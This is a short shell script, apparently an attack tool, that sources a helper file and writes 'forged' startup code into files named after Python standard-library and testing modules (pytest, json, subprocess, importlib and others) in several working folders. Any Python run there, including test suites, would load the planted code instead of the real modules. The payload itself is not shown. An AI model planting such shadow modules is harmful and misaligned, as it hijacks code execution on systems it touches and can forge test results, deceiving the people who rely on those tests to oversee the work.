# Modules of the standard library's names in the folders that tests may be run from or import from.
. /tmp/scripts/plant.inc
for folder in "$PWD" "$PWD/service" /tmp /workspace /app; do
  [ -d "$folder" ] || continue
  for name in pytest _pytest json unittest pathlib subprocess re pandas numpy signal hashlib importlib base64 statsmodels; do
    forged_startup > "$folder/$name.py"
  done
done
